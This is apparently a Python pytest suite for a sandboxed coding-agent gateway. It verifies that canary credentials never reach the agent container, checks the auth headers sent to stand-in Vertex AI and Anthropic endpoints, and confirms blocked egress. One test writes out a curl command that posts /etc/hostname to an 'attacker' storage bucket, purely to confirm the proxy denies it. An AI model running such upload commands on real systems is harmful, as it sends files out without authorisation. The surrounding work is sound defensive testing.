"""The model gateway: credentials stay out of the agent, model calls still work.

Real sessions (rootful and rootless) against the fake internet
(tests/podman/fakenet.py): its web server stands in for Google's token
endpoint, Vertex AI (us-east5) and the Anthropic API, with the test CA's
certificate. The scratch HOME holds canary credentials of every kind; the
tests search the whole agent (its files, every process's environment and
argv, ``paude exec env``) for them, and check the header each stand-in got.
"""

from __future__ import annotations

import json
import subprocess
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from egress_session import MODES, Sandbox, open_sandbox
from fakenet import FakeNet, fakenet, wait_for  # noqa: F401 - fixture
from fakenet_server import ACCESS_TOKEN_PREFIX, CANNED

REFRESH = "canary-adc-refresh-token-7f3a1c"
CLIENT_SECRET = "canary-adc-client-secret-91bd2e"
API_KEY = "sk-ant-api03-canary-api-key-c0de55"
OAUTH = "sk-ant-oat01-canary-oauth-token-beef77"
CREDENTIALS_JSON = "canary-claude-credentials-json-4242"
PRIMARY_KEY = "canary-claude-json-primary-key-1717"
HISTORY = "canary-other-project-transcript-3131"
CANARIES = (REFRESH, CLIENT_SECRET, API_KEY, OAUTH, CREDENTIALS_JSON, PRIMARY_KEY, HISTORY)
ALLOWED_SETTING = "paude-allowed-setting-5150"  # must arrive: the search's control
PROJECT = "paude-test-proj"
VERTEX_HOST = "us-east5-aiplatform.googleapis.com"

VERTEX_ENV = {"CLAUDE_CODE_USE_VERTEX": "1", "ANTHROPIC_VERTEX_PROJECT_ID": PROJECT,
              "CLOUD_ML_REGION": "us-east5",
              # present on the host, unused in Vertex mode: must not leak either
              "ANTHROPIC_API_KEY": API_KEY, "CLAUDE_CODE_OAUTH_TOKEN": OAUTH}


def write_canary_home(home: Path) -> None:
    """Put a canary in every credential a user's HOME may hold."""
    adc = home / ".config" / "gcloud" / "application_default_credentials.json"
    adc.parent.mkdir(parents=True, exist_ok=True)
    adc.write_text(json.dumps({"type": "authorized_user", "refresh_token": REFRESH,
                               "client_id": "paude-test.apps.googleusercontent.com",
                               "client_secret": CLIENT_SECRET}))
    claude = home / ".claude"
    (claude / "projects" / "-other-project").mkdir(parents=True, exist_ok=True)
    (claude / ".credentials.json").write_text(json.dumps(
        {"claudeAiOauth": {"accessToken": CREDENTIALS_JSON, "refreshToken": CREDENTIALS_JSON}}))
    (claude / "projects" / "-other-project" / "s.jsonl").write_text(
        json.dumps({"message": HISTORY}) + "\n")
    (claude / "settings.json").write_text(json.dumps({"env": {"PAUDE_MARK": ALLOWED_SETTING}}))
    (home / ".claude.json").write_text(json.dumps(
        {"hasCompletedOnboarding": True, "theme": "dark", "primaryApiKey": PRIMARY_KEY,
         "projects": {"/other/project": {"history": [{"display": HISTORY}]}}}))


@pytest.fixture(scope="module", params=MODES)
def box(request: pytest.FixtureRequest, fakenet: FakeNet) -> Iterator[Sandbox]:  # noqa: F811
    for sandbox in open_sandbox(fakenet, request):
        write_canary_home(sandbox.home)
        for path in [sandbox.home, *sandbox.home.rglob("*")]:
            sandbox._chown(path)
        yield sandbox


def start(box: Sandbox, env: dict[str, str]) -> str:
    box.extra_env = env
    return box.start()


@pytest.fixture(scope="module")
def vertex(box: Sandbox) -> str:
    return start(box, VERTEX_ENV)


@pytest.fixture(scope="module")
def api_key(box: Sandbox) -> str:
    return start(box, {"ANTHROPIC_API_KEY": API_KEY})


def agent_search(box: Sandbox, session: str) -> list[str]:
    """Return ``file:match`` for every canary (and the control) found in the agent.

    Runs as root with every capability (``--privileged`` exec), so no file is
    out of reach; the patterns come on stdin so they are in no process's argv.
    """
    script = ("grep -raoF -f /dev/stdin --exclude-dir=proc --exclude-dir=sys "
              "--exclude-dir=dev / /proc/[0-9]*/environ /proc/[0-9]*/cmdline; true")
    argv = ["podman", "exec", "-i", "--privileged", "-u", "0", f"paude-{session}-agent",
            "sh", "-c", script]
    env = box.env()
    proc = subprocess.run(box._argv(argv, env), input="\n".join([*CANARIES, ALLOWED_SETTING]),
                          capture_output=True, text=True, timeout=900, env=env, cwd="/",
                          check=False)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.splitlines()


def stand_in(box: Sandbox, *, host: str, path_part: str) -> list[dict[str, object]]:
    return [r for r in box.net.web_requests()
            if r["host"] == host and path_part in str(r["path"]) and r["method"] == "POST"]


def headers(request: dict[str, object]) -> dict[str, str]:
    return {str(k).lower(): str(v) for k, v in dict(request["headers"]).items()}  # type: ignore[call-overload]


def claude_print(box: Sandbox, session: str) -> None:
    result = box.paude("exec", session, "--", "claude", "-p", "hello", check=False, timeout=300)
    assert result.returncode == 0 and result.stdout.strip() == CANNED, result


def test_vertex_round_trip_with_a_token_the_gateway_minted(box: Sandbox, vertex: str) -> None:
    claude_print(box, vertex)
    calls = stand_in(box, host=VERTEX_HOST, path_part=f"/v1/projects/{PROJECT}/locations/"
                                                      "us-east5/publishers/anthropic/models/")
    assert calls, box.net.web_requests()
    assert headers(calls[-1])["authorization"].startswith(f"Bearer {ACCESS_TOKEN_PREFIX}")
    assert str(calls[-1]["path"]).endswith(":streamRawPredict")
    minted = stand_in(box, host="oauth2.googleapis.com", path_part="/token")
    assert minted and REFRESH in str(minted[-1]["body"]), box.net.web_requests()


def test_no_canary_anywhere_in_the_agent(box: Sandbox, vertex: str, api_key: str) -> None:
    for session in (vertex, api_key):
        found = agent_search(box, session)
        leaked = [line for line in found if ALLOWED_SETTING not in line]
        assert leaked == [], leaked
        # The control: allowed settings do arrive, and the search finds them.
        assert any(line.startswith("/home/paude/.claude/settings.json:") for line in found), \
            found
        env = box.paude("exec", session, "--", "env").stdout
        assert not [c for c in CANARIES if c in env], env
        # (projects/ may exist: the agent's own transcripts of this session)
        listing = box.exec(session, "ls -A ~/.claude ~/.claude/projects ~/.config 2>&1").stdout
        assert ".credentials.json" not in listing and "-other-project" not in listing
        assert "gcloud" not in listing and "settings.json" in listing, listing


def test_anthropic_api_key_round_trip_and_stream_in_pieces(box: Sandbox, api_key: str) -> None:
    claude_print(box, api_key)
    calls = stand_in(box, host="api.anthropic.com", path_part="/v1/messages")
    assert calls and headers(calls[-1])["x-api-key"] == API_KEY
    assert "authorization" not in headers(calls[-1])  # the agent's placeholder was dropped
    assert headers(calls[-1]).get("anthropic-version"), headers(calls[-1])

    # The stand-in sends the first event, then holds the rest until released:
    # the first piece must reach the agent through the gateway meanwhile.
    out = "/tmp/stream.out"
    body = json.dumps({"model": "hold-stream", "stream": True, "max_tokens": 5,
                       "messages": [{"role": "user", "content": "hi"}]})
    box.exec(api_key, f"curl -sN http://paude-gateway:8080/v1/messages -H 'content-type: "
                      f"application/json' -d '{body}' >{out} 2>&1 & echo started")

    def agent_has(text: str) -> bool:
        return text in box.exec(api_key, f"cat {out}").stdout

    wait_for("the first streamed event in the agent", lambda: agent_has("message_start"),
             deadline=120)
    assert not agent_has("message_stop")  # the stand-in still holds it
    urllib.request.urlopen(f"http://{box.net.web_ip}/release", timeout=30).read()
    wait_for("the rest of the stream", lambda: agent_has("message_stop"), deadline=120)


def test_subscription_oauth_token_round_trip(box: Sandbox) -> None:
    session = start(box, {"CLAUDE_CODE_OAUTH_TOKEN": OAUTH})
    claude_print(box, session)
    calls = stand_in(box, host="api.anthropic.com", path_part="/v1/messages")
    sent = headers(calls[-1])
    assert sent["authorization"] == f"Bearer {OAUTH}" and "x-api-key" not in sent
    assert "oauth-2025-04-20" in sent["anthropic-beta"].split(","), sent


def test_default_config_denies_a_fake_storage_googleapis_com(box: Sandbox, vertex: str) -> None:
    before = len(stand_in(box, host="storage.googleapis.com", path_part="/"))
    upload = "https://storage.googleapis.com/upload/storage/v1/b/attacker/o?name=x"
    direct = box.exec(vertex, f"curl -s -o /dev/null -w '%{{http_code}}' -X POST "
                              f"--data-binary @/etc/hostname '{upload}'")
    assert direct.returncode != 0, direct  # squid refuses the CONNECT
    via_gateway = box.exec(vertex, "curl -s -o /dev/null -w '%{http_code}' -X POST "
                                   "http://paude-gateway:8080/upload/storage/v1/b/attacker/o")
    assert via_gateway.stdout.strip() == "404", via_gateway
    log = box.podman("exec", "-u", "proxy", f"paude-{vertex}-proxy", "cat",
                     "/var/log/squid/access.log").stdout
    assert "TCP_DENIED/403 CONNECT storage.googleapis.com:443" in log, log
    assert len(stand_in(box, host="storage.googleapis.com", path_part="/")) == before


def gateway_requests(box: Sandbox, session: str) -> list[str]:
    """Return the request lines the gateway logged (method path status time)."""
    logs = box.podman("logs", f"paude-{session}-gateway")
    return [line for line in (logs.stdout + logs.stderr).splitlines()
            if line.split(" ", 1)[0] in {"GET", "POST", "PUT", "DELETE", "HEAD", "PATCH"}]


def test_other_containers_cannot_use_the_gateway(box: Sandbox, vertex: str) -> None:
    addresses = box.container_ip(f"paude-{vertex}-gateway")
    internal = addresses[f"paude-{vertex}"]
    egress = addresses[f"paude-{vertex}-egress"]
    path = f"/v1/projects/{PROJECT}/locations/us-east5/publishers/anthropic/models/m:rawPredict"
    probe = ("import sys, urllib.request\n"
             "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
             "for ip in sys.argv[1:]:\n"
             "    try:\n"
             f"        r = opener.open(urllib.request.Request('http://' + ip + "
             f"':8080{path}', data=b'{{}}'), timeout=10)\n"
             "        print(ip, r.status)\n"
             "    except Exception as err:\n"
             "        print(ip, type(err).__name__, getattr(err, 'code', ''))\n")
    before = gateway_requests(box, vertex)
    # The fake internet's web server: a container on another network of this host.
    result = subprocess.run(["podman", "exec", box.net.web, "python3", "-c", probe, internal,
                             egress], capture_output=True, text=True, timeout=120, check=False)
    lines = result.stdout.splitlines()
    assert len(lines) == 2 and not [line for line in lines if line.endswith(" 200")], result
    # Whatever answered on this machine (the host may intercept forwarded
    # traffic), the gateway itself saw nothing ...
    assert gateway_requests(box, vertex) == before, gateway_requests(box, vertex)
    # ... while the same request from the agent reaches it (the control).
    box.exec(vertex, f"curl -s -o /dev/null -X POST http://paude-gateway:8080{path}")
    assert len(gateway_requests(box, vertex)) == len(before) + 1
